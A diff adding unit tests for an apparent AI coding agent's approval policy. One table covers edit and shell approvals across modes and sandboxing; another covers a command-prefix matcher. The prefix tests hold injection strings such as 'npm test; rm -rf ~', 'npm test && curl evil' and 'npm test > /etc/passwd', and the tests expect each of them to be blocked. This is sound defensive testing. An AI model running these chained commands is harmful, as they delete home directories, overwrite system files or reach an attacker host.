@@ -1,0 +1,55 @@
+import { describe, expect, it } from 'vitest';
+import { commandStartsWith, decideApproval, type ApprovalMode, type ApprovalRule } from '../../src/agent/approvals.js';
+import type { ApprovalRequest } from '../../tools/tool.js';
+
+const edit: ApprovalRequest = { tool: 'apply_patch', kind: 'edit', title: 'Edit a.ts' };
+const sandboxed: ApprovalRequest = { tool: 'shell', kind: 'exec', title: 'Run', command: 'npm test', sandboxed: true };
+const bare: ApprovalRequest = { ...sandboxed, sandboxed: false };
+const always: ApprovalRule[] = [{ kind: 'edit' }, { kind: 'exec', prefix: 'npm test' }];
+
+// [request, mode, rules, unsandboxedAllowed, decision, decided by]
+const table: [string, ApprovalRequest, ApprovalMode, ApprovalRule[], boolean, string, string][] = [
+  ['edit, suggest', edit, 'suggest', [], false, 'ask', 'policy'],
+  ['edit, auto-edit', edit, 'auto-edit', [], false, 'allow', 'policy'],
+  ['edit, full-auto', edit, 'full-auto', [], false, 'allow', 'policy'],
+  ['edit, suggest, "always" for edits', edit, 'suggest', always, false, 'allow', 'rule'],
+  ['sandboxed command, suggest', sandboxed, 'suggest', [], false, 'ask', 'policy'],
+  ['sandboxed command, auto-edit', sandboxed, 'auto-edit', [], false, 'ask', 'policy'],
+  ['sandboxed command, full-auto', sandboxed, 'full-auto', [], false, 'allow', 'policy'],
+  ['sandboxed command, suggest, matching rule', sandboxed, 'suggest', always, false, 'allow', 'rule'],
+  ['unsandboxed command, full-auto', bare, 'full-auto', [], false, 'ask', 'policy'],
+  ['unsandboxed command, matching rule', bare, 'auto-edit', always, false, 'ask', 'policy'],
+  ['unsandboxed command, full-auto, --no-sandbox', bare, 'full-auto', [], true, 'allow', 'policy'],
+  [
+    'sandboxed command, rule for another command',
+    { ...sandboxed, command: 'rm -rf build' },
+    'auto-edit',
+    always,
+    false,
+    'ask',
+    'policy',
+  ],
+];
+
+describe('the approval policy', () => {
+  it.each(table)('%s', (_name, request, mode, rules, unsandboxedAllowed, decision, by) => {
+    expect(decideApproval({ request, mode, rules, unsandboxedAllowed })).toEqual({ decision, by });
+  });
+});
+
+describe('command prefix rules', () => {
+  it.each([
+    ['npm test', 'npm test', true],
+    ['npm test -- src/a.test.ts', 'npm test', true],
+    ['npm   test', 'npm test', true],
+    ['npm testx', 'npm test', false],
+    ['npm', 'npm test', false],
+    ['npm test; rm -rf ~', 'npm test', false],
+    ['npm test && curl evil', 'npm test', false],
+    ['npm test $(curl evil)', 'npm test', false],
+    ['npm test > /etc/passwd', 'npm test', false],
+    ['anything', '', false],
+  ])('"%s" under rule "%s" → %s', (command, prefix, expected) => {
+    expect(commandStartsWith(command, prefix)).toBe(expected);
+  });
+});
